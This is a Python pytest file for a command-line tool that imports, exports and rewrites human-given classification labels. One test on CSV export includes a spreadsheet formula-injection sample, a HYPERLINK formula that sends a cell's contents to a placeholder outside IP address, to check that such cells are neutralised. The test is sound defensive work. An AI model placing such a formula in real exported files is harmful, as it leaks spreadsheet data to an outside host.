"""Labels from people: files filled in carelessly, new labels, and a set of labels that changes."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import pytest

from core.datasets import Example, is_held_out
from core.label_files.files import read_labels, write_requests
from core.ledger import Ledger
from core.records import LabelRequest, Wanted
from tests.cli.conftest import Command
from tests.cli.test_loop import predicted
from tests.tasks import TaskFiles

pytestmark = pytest.mark.usefixtures("model")


@pytest.fixture
def model(retune: Command, tiny_package: Path) -> str:
    retune("register", tiny_package, "--model", "m")
    retune("promote", "m@1")
    return "m"


def filled(path: Path, rows: Sequence[Mapping[str, object]]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


def stored(ledger: Ledger) -> dict[int, str]:
    return {int(row.prediction_id, 16): row.label for row in ledger.labelled("m")}


def test_rows_that_cannot_be_meant_are_refused_and_the_rest_stored(
    retune: Command, ledger: Ledger, tmp_path: Path
) -> None:
    given: list[object] = [
        "bug",
        " billing\u00a0",
        "Billing",
        "biling",
        "BUG",
        "how to",
        "0.4558",
        "nan",
        float("nan"),
        True,
        1.0,
        {"choices": ["billing"]},
        '{"choices": ["billing"]}',
        ["how_to"],
        ["bug", "billing"],
        {"rating": 3},
        "x" * 5000,
        "refund",
        "",
        "['bug', 'billing']",
    ]
    rows = [{"prediction_id": predicted(ledger, "m", n), "label": label} for n, label in enumerate(given, 1)]
    code, out, _ = retune("labels", "import", "m", filled(tmp_path / "labels.jsonl", rows), "--json")
    result = json.loads(out)
    assert code == 3
    assert stored(ledger) == {1: "bug", 2: "billing", 12: "billing", 13: "billing", 14: "how_to", 18: "refund"}
    assert (result["accepted"], result["empty"], result["new"]) == (6, 2, {"refund": 1})
    reasons = {row["row"]: row["reason"] for row in result["refused"]}
    assert reasons.keys() == {3, 4, 5, 6, 7, 8, 10, 11, 15, 16, 17, 20}
    assert "resembles 'billing'" in reasons[3]
    assert "resembles 'how_to'" in reasons[6]
    assert "like a score" in reasons[7]
    assert "true or false" in reasons[10]


def test_a_label_that_resembles_another_is_stored_when_it_is_named(
    retune: Command, ledger: Ledger, tmp_path: Path
) -> None:
    file = filled(tmp_path / "a.jsonl", [{"prediction_id": predicted(ledger, "m", 1), "label": "bugs"}])
    code, out, _ = retune("labels", "import", "m", file)
    assert (code, stored(ledger)) == (3, {})
    assert "Row 1 (line 1): label 'bugs' resembles 'bug'." in out
    code, out, _ = retune("labels", "import", "m", file, "--new-labels", "bugs")
    assert (code, stored(ledger)) == (0, {1: "bugs"})
    assert "New labels: bugs (1)." in out


def test_of_new_labels_that_resemble_each_other_the_most_frequent_is_the_label(
    retune: Command, ledger: Ledger, tmp_path: Path
) -> None:
    given = ["refud", "refund", "refund", "Refund"]
    rows = [{"prediction_id": predicted(ledger, "m", n), "label": label} for n, label in enumerate(given)]
    _, out, _ = retune("labels", "import", "m", filled(tmp_path / "a.jsonl", rows))
    assert "New labels: refund (2)." in out
    assert "Row 1 (line 1): label 'refud' resembles 'refund'." in out
    again = [{"prediction_id": predicted(ledger, "m", 9), "label": "reffund"}]
    assert retune("labels", "import", "m", filled(tmp_path / "b.jsonl", again))[0] == 3
    assert stored(ledger) == {1: "refund", 2: "refund"}


def test_cells_that_changed_places_are_refused(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    one, two = predicted(ledger, "m", 1), predicted(ledger, "m", 2)
    file = tmp_path / "labels.csv"
    file.write_text(f"prediction_id;text;predicted;score;label\n{one};a;bug;0,9;billing\n{two};a;billing;0,9;bug\n")
    code, out, _ = retune("labels", "import", "m", file)
    assert (code, stored(ledger)) == (3, {1: "billing"})
    assert "Row 2 (line 3): its 'predicted' is 'billing', but 'bug' was predicted" in out


def test_unknown_ids_and_repeated_predictions_are_counted(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    key = predicted(ledger, "m", 1)
    rows = [{"prediction_id": name, "label": label} for name, label in ((key, "bug"), (key, "billing"), ("x", "bug"))]
    _, out, _ = retune("labels", "import", "m", filled(tmp_path / "a.jsonl", rows))
    assert "1 for unknown predictions (x)" in out
    assert "1 predictions have several labels here: the last counts." in out
    assert stored(ledger) == {1: "billing"}


def test_what_nobody_can_tell_ends_the_request_without_a_label(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    keys = [predicted(ledger, "m", number) for number in range(4)]
    ledger.request_labels("m", [Wanted(key, "measure") for key in keys], check_id=None)
    out = tmp_path / "labels.csv"
    _, _, hint = retune("labels", "export", "m", "--out", out)
    assert "'?' if nobody can tell it" in hint
    rows = list(csv.DictReader(out.read_text().splitlines()))
    for row, label in zip(rows, ("bug", "?", " ? ", ""), strict=True):
        row["label"] = label
    code, said, _ = retune("labels", "import", "m", filled(tmp_path / "given.jsonl", rows))
    assert (code, stored(ledger)) == (0, {0: "bug"})
    assert "1 labels stored, 0 for unknown predictions, 1 rows without a label skipped." in said
    assert "2 cannot be told: no label, and not asked for again." in said
    assert [item.prediction_id for item in ledger.label_requests("m")] == [keys[3]]


def test_a_label_that_is_a_question_mark_is_one(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    file = filled(tmp_path / "a.jsonl", [{"prediction_id": predicted(ledger, "m", 1), "label": "?"}])
    _, out, _ = retune("labels", "import", "m", file, "--json")
    assert (json.loads(out)["accepted"], json.loads(out)["cannot_tell"]) == (0, 1)
    _, out, _ = retune("labels", "import", "m", file, "--json", "--new-labels", "?")
    assert (json.loads(out)["accepted"], json.loads(out)["cannot_tell"]) == (1, 0)
    assert retune("labels", "accept", "m", "?")[0] == 0
    retune("labels", "import", "m", file)
    assert stored(ledger) == {1: "?"}


def test_texts_that_a_spreadsheet_would_compute_are_text_and_come_back(tmp_path: Path) -> None:
    texts = [
        '=HYPERLINK("http://203.0.113.5/?x="&A1,"invoice")',
        "+49 30 1234",
        "-1 seats",
        "@SUM(1+1)*2",
        "'=1",
        "plain",
    ]
    requests = [LabelRequest(f"{n:032x}", text, "-x", 0.5, "measure", 1) for n, text in enumerate(texts)]
    path = tmp_path / "requests.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        write_requests(file, requests, ["-x", "bug"])
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert not any(cell and cell[0] in "=+-@\t\r" for row in rows for cell in row.values())
    assert rows[0]["choices"] == "'-x | bug"
    for row in rows:
        row["label"] = "-x"
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)
    labels = read_labels(path, source="file").labels
    assert [(getattr(label.given, "label", None), label.predicted) for label in labels] == [("-x", "-x")] * len(texts)


def test_a_rule_says_what_it_touches_and_is_applied_on_reading(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    labels = ("bug", "billing", "refund")
    rows = [{"prediction_id": predicted(ledger, "m", n), "label": label} for n, label in enumerate(labels, 1)]
    retune("labels", "import", "m", filled(tmp_path / "a.jsonl", rows))
    code, out, _ = retune("labels", "rename", "m", "bug", "defect", "--dry-run")
    assert (code, stored(ledger)[1]) == (0, "bug")
    assert "'bug' is called 'defect'" in out
    assert "1 of the feedback rows" in out
    retune("labels", "rename", "m", "bug", "defect", "--reason", "The desk says so")
    retune("labels", "retire", "m", "billing")
    assert stored(ledger) == {1: "defect", 3: "refund"}
    # The answer has its name of today as well, so that it is still right.
    assert ledger.labelled("m")[0].predicted == "defect"
    _, out, _ = retune("labels", "list", "m")
    assert "2 labels: defect, how_to" in out
    assert "rule 1: rename bug → defect" in out
    assert "The desk says so" in out
    retune("labels", "undo", "m", "2")
    assert stored(ledger) == {1: "defect", 2: "billing", 3: "refund"}


def test_merged_labels_are_one(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    rows = [{"prediction_id": predicted(ledger, "m", n), "label": label} for n, label in enumerate(("bug", "how_to"))]
    retune("labels", "import", "m", filled(tmp_path / "a.jsonl", rows))
    code, _, _ = retune("labels", "merge", "m", "bug", "how_to", "support")
    assert (code, stored(ledger)) == (0, {0: "support", 1: "support"})


def test_a_rule_leaves_a_label_with_a_separator_as_it_is(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    ledger.added.add("m", [Example("a text", "z|a")], source="desk", fingerprint="f")
    assert retune("labels", "rename", "m", "billing", "payment")[0] == 0
    out = tmp_path / "all.jsonl"
    retune("labels", "export", "m", "--all", "--out", out)
    assert json.loads(out.read_text())["label"] == "z|a"


def test_a_rule_about_the_labels_of_a_multi_label_model(
    retune: Command, ledger: Ledger, tmp_path: Path, multi_label: TaskFiles
) -> None:
    retune("register", multi_label.package, "--model", "topics")
    retune("promote", "topics@1")
    ledger.added.add("topics", [Example("a text", "billing|bug")], source="desk", fingerprint="f")
    code, _, err = retune("labels", "rename", "topics", "billing", "x|y")
    assert (code, "Label 'x|y' contains '|'" in err) == (1, True)
    code, _, err = retune("labels", "accept", "topics", "x|y")
    assert (code, "No stored row of 'topics' has the label 'x|y'" in err) == (1, True)
    assert retune("labels", "rename", "topics", "billing", "payment")[0] == 0
    out = tmp_path / "all.jsonl"
    retune("labels", "export", "topics", "--all", "--out", out)
    assert json.loads(out.read_text())["label"] == "bug|payment"


def test_a_rule_about_a_label_that_nobody_used_names_the_one_that_was_meant(retune: Command) -> None:
    code, _, err = retune("labels", "rename", "m", "bugg", "defect")
    assert code == 1
    assert "No stored row of 'm' has the label 'bugg'. Did you mean 'bug'?" in err


@pytest.mark.parametrize(
    ("words", "sentence"),
    [
        (("rename", "bug", " "), "The name of a label is empty"),
        (("rename", "bug", "a\nb"), "has a line break"),
        (("retire", "bug", "--to", "a\u2028b"), "has a line break"),
        (("rename", "bug", "x" * 257), "is longer than 256 characters"),
        (("rename", "bug", "0.5"), "'0.5' looks like a score or an empty value"),
        (("merge", "bug", "how_to", "none"), "'none' looks like a score or an empty value"),
        (("rename", "bug", "Billing"), "'Billing' resembles 'billing'. Did you mean 'billing'?"),
        (("merge", "billing", " billing"), "'billing' is 'billing' already"),
        (("rename", "billing", "billing"), "'billing' is 'billing' already"),
        (("retire", "billing", "--to", "billing"), "'billing' is 'billing' already"),
        (("accept", ""), "The name of a label is empty"),
        (("accept", "a\tb"), "has a line break or another control character"),
    ],
)
def test_a_rule_with_a_name_that_cannot_be_meant_is_refused(
    retune: Command, ledger: Ledger, words: Sequence[str], sentence: str
) -> None:
    code, _, err = retune("labels", words[0], "m", *words[1:])
    assert (code, sentence in err) == (1, True), err
    assert ledger.rules.taxonomy("m").rules == []


def test_names_in_rules_are_normalised(retune: Command, ledger: Ledger) -> None:
    assert retune("labels", "rename", "m", " bug\u00a0", " re\u0301clamation ")[0] == 0
    (rule,) = ledger.rules.taxonomy("m").rules
    assert (rule.label, rule.target) == ("bug", "r\u00e9clamation")


def test_a_rule_may_change_the_spelling_of_its_own_labels(retune: Command) -> None:
    assert retune("labels", "rename", "m", "billing", "Billing")[0] == 0
    assert retune("labels", "merge", "m", "bug", "how_to", "how to")[0] == 0


def test_a_new_label_that_resembles_another_is_taken_once_it_is_accepted(retune: Command) -> None:
    _, _, err = retune("labels", "rename", "m", "bug", "how to")
    assert "If it is meant, confirm it: retune labels accept m 'how to'." in err
    assert "'how to' is a new label." in retune("labels", "accept", "m", "how to")[1]
    code, out, _ = retune("labels", "rename", "m", "bug", "how to")
    assert (code, "is a new label" in out) == (0, False)


def test_a_rule_says_that_its_target_is_a_new_label(retune: Command) -> None:
    assert "'howto guide' is a new label." in retune("labels", "rename", "m", "how_to", "howto guide")[1]
    assert "is a new label" not in retune("labels", "retire", "m", "bug", "--to", "billing")[1]


def added_file(path: Path, rows: Sequence[tuple[str, str]]) -> Path:
    path.write_text("text,label\n" + "".join(f"{text},{label}\n" for text, label in rows))
    return path


def test_added_rows_train_or_are_held_out_and_can_be_removed(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    rows = [(f"a text about number {number}", ("bug", "refund")[number % 2]) for number in range(20)]
    file = added_file(tmp_path / "rows.csv", rows)
    code, out, _ = retune("labels", "add", "m", file, "--source", "desk", "--json")
    held_out = sum(is_held_out(text) for text, _ in rows)
    found = json.loads(out)
    assert (code, found["stored"], found["held_out"], found["new"]) == (0, 20, held_out, {"refund": 10})
    assert json.loads(retune("labels", "add", "m", file, "--source", "desk", "--json")[1])["stored"] == 0
    assert "added by desk: 20 rows" in retune("labels", "list", "m")[1]
    assert len(ledger.added.rows("m")) == 20
    assert "20 rows of desk removed." in retune("labels", "remove", "m", "--source", "desk")[1]
    code, _, err = retune("labels", "remove", "m", "--source", "desk")
    assert (code, "No rows were added by 'desk'" in err) == (1, True)


def test_added_rows_that_measure_or_are_doubtful_are_refused(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
    number = next(number for number in range(100) if is_held_out(f"text {number}"))
    retune(
        "labels", "import", "m",
        filled(tmp_path / "a.jsonl", [{"prediction_id": predicted(ledger, "m", number), "label": "bug"}]),
    )  # fmt: skip
    rows = [(f"Text {number}", "bug"), ("another text", "Bug"), ("one more text", "bug")]
    code, out, _ = retune("labels", "add", "m", added_file(tmp_path / "rows.csv", rows), "--source", "desk")
    assert (code, len(ledger.added.rows("m"))) == (3, 1)
    assert "Row 1 (line 2): it has the text of a row that measures." in out
    assert "Row 2 (line 3): label 'Bug' resembles 'bug'." in out


@pytest.mark.parametrize(
    ("form", "ending"),
    [("table", "csv"), ("table", "jsonl"), ("table", "parquet"), ("label-studio", "json"), ("argilla", "json")],
)
def test_all_labelled_rows_go_out_and_come_back(
    retune: Command, ledger: Ledger, tmp_path: Path, tiny_package: Path, form: str, ending: str
) -> None:
    rows = [("=1+1", "bug"), ("plain words", "billing")]
    ledger.added.add("m", [Example(*row) for row in rows], source="desk", fingerprint="f")
    retune(
        "labels", "import", "m",
        filled(tmp_path / "a.jsonl", [{"prediction_id": predicted(ledger, "m", 7), "label": "bug"}]),
    )  # fmt: skip
    out = tmp_path / f"all.{ending}"
    code, said, _ = retune("labels", "export", "m", "--all", "--out", out, "--format", form)
    assert (code, said) == (0, f"3 labelled rows: {out}\n")
    retune("labels", "remove", "m", "--source", "desk")
    # Into another model, since the rows measure this one.
    retune("register", tiny_package, "--model", "n")
    retune("labels", "add", "n", out, "--source", "m")
    assert [(row.text, row.label) for row in ledger.added.rows("n")] == [("text 7", "bug"), *rows]


def task(text: str, *answers: tuple[str, str], cancelled: bool = False) -> dict[str, object]:
    results = [{"from_name": name, "type": "choices", "value": {"choices": [choice]}} for name, choice in answers]
    return {"data": {"text": text}, "annotations": [{"result": results, "was_cancelled": cancelled}]}


def record(text: str, *answers: tuple[str, str], status: str = "submitted") -> dict[str, object]:
    given = {name: [{"value": "how_to", "status": "draft"}] for name, _ in answers}
    for name, value in answers:
        given[name] = [{"value": value, "status": status}, *given[name]]
    return {"fields": {"text": text}, "responses": given}


@pytest.mark.parametrize("make", [task, record])
def test_the_question_named_label_is_the_label(
    retune: Command, ledger: Ledger, tmp_path: Path, make: Callable[..., dict[str, object]]
) -> None:
    unanswered = make("c") | ({"annotations": []} if make is task else {})
    dropped = make("d", ("label", "bug"), **({"cancelled": True} if make is task else {"status": "discarded"}))
    rows = [unanswered, dropped, make("a", ("label", "bug"), ("mood", "bad")), make("b", ("label", "Bug"))]
    file = tmp_path / "tasks.json"
    file.write_text(json.dumps(rows))
    code, out, _ = retune("labels", "add", "m", file, "--source", "desk")
    assert (code, [row.label for row in ledger.added.rows("m")]) == (3, ["bug"])
    assert "2 tasks or records without an answer skipped." in out
    assert "Row 4 " in out
    assert "label 'Bug' resembles 'bug'" in out


@pytest.mark.parametrize("make", [task, record])
def test_a_skipped_task_ends_its_request(
    retune: Command, ledger: Ledger, tmp_path: Path, make: Callable[..., dict[str, object]]
) -> None:
    skipped = make("a", ("label", "bug"), **({"cancelled": True} if make is task else {"status": "discarded"}))
    tasks = [skipped, make("b", ("label", "billing")), make("c") | ({"annotations": []} if make is task else {})]
    keys = [predicted(ledger, "m", number) for number in range(3)]
    for made, key in zip(tasks, keys, strict=True):
        where = made["data"] if make is task else made.setdefault("metadata", {})
        assert isinstance(where, dict)
        where["prediction_id"] = key
    ledger.request_labels("m", [Wanted(key, "measure") for key in keys], check_id=None)
    file = tmp_path / "tasks.json"
    file.write_text(json.dumps(tasks))
    _, out, _ = retune("labels", "import", "m", file, "--json")
    result = json.loads(out)
    assert (result["accepted"], result["cannot_tell"], result["empty"]) == (1, 1, 1)
    assert stored(ledger) == {1: "billing"}
    assert [item.prediction_id for item in ledger.label_requests("m")] == [keys[2]]
    file.write_text(json.dumps(tasks[:1]))
    assert json.loads(retune("labels", "import", "m", file, "--json")[1])["cannot_tell"] == 1
    file.write_text(json.dumps(tasks[2:]))
    assert json.loads(retune("labels", "import", "m", file, "--json")[1])["empty"] == 1


@pytest.mark.parametrize("make", [task, record])
def test_of_several_questions_one_is_to_be_named(
    retune: Command, ledger: Ledger, tmp_path: Path, make: Callable[..., dict[str, object]]
) -> None:
    file = tmp_path / "tasks.json"
    file.write_text(json.dumps([make("a", ("topic", "bug")), make("b", ("topic", "billing"), ("mood", "bad"))]))
    code, _, err = retune("labels", "add", "m", file, "--source", "desk")
    assert (code, ledger.added.rows("m")) == (1, [])
    assert "has answers to several questions, and none is 'label': mood, topic. Name one with --label-column." in err
    assert retune("labels", "add", "m", file, "--source", "desk", "--label-column", "topic")[0] == 0
    assert [row.label for row in ledger.added.rows("m")] == ["bug", "billing"]


@pytest.mark.parametrize("make", [task, record])
def test_the_only_question_needs_no_name_and_a_fault_names_its_row(
    retune: Command, ledger: Ledger, tmp_path: Path, make: Callable[..., dict[str, object]]
) -> None:
    file = tmp_path / "tasks.json"
    file.write_text(json.dumps([make("c"), make("a", ("topic", "bug"))]))
    assert retune("labels", "add", "m", file, "--source", "desk")[0] == 0
    assert [row.label for row in ledger.added.rows("m")] == ["bug"]
    file.write_text(json.dumps([make("c"), make("a", ("topic", "bug")), make(" ", ("topic", "bug"))]))
    assert "Row 3 of" in retune("labels", "add", "m", file, "--source", "desk")[2]
    file.write_text(json.dumps([make("c")]))
    assert retune("labels", "add", "m", file, "--source", "desk")[0] == 0


@pytest.mark.parametrize("source", ["", " ", "a\nb", "x" * 65])
@pytest.mark.parametrize("command", ["add", "import"])
def test_a_source_that_cannot_be_listed_is_refused(
    retune: Command, ledger: Ledger, tmp_path: Path, command: str, source: str
) -> None:
    file = added_file(tmp_path / "rows.csv", [("a text", "bug")])
    code, _, err = retune("labels", command, "m", file, "--source", source)
    assert (code, ledger.added.rows("m")) == (2, [])
    assert "Give 1 to 64 characters on one line." in err


def test_requests_are_written_as_csv_only(retune: Command, tmp_path: Path) -> None:
    out = tmp_path / "requests.parquet"
    code, _, err = retune("labels", "export", "m", "--out", out)
    assert (code, out.exists()) == (1, False)
    assert "ends in '.parquet', but .csv is written. Name a file *.csv." in err
    code, _, err = retune("labels", "export", "m", "--format", "argilla")
    assert (code, "--format argilla is for all labelled rows: add --all." in err) == (2, True)
    assert retune("labels", "export", "m", "--out", tmp_path / "requests.CSV")[0] == 0


def test_a_rule_knows_the_labels_of_added_rows_and_names_that_are_gone(retune: Command, ledger: Ledger) -> None:
    ledger.added.add("m", [Example("a text", "refund")], source="desk", fingerprint="f")
    code, out, _ = retune("labels", "rename", "m", "refund", "payback")
    assert (code, "1 of the added rows" in out) == (0, True)
    code, out, _ = retune("labels", "rename", "m", "bug", "refund")
    assert (code, "is a new label" in out) == (0, False)
    assert ledger.rules.taxonomy("m").today("bug") == "payback"
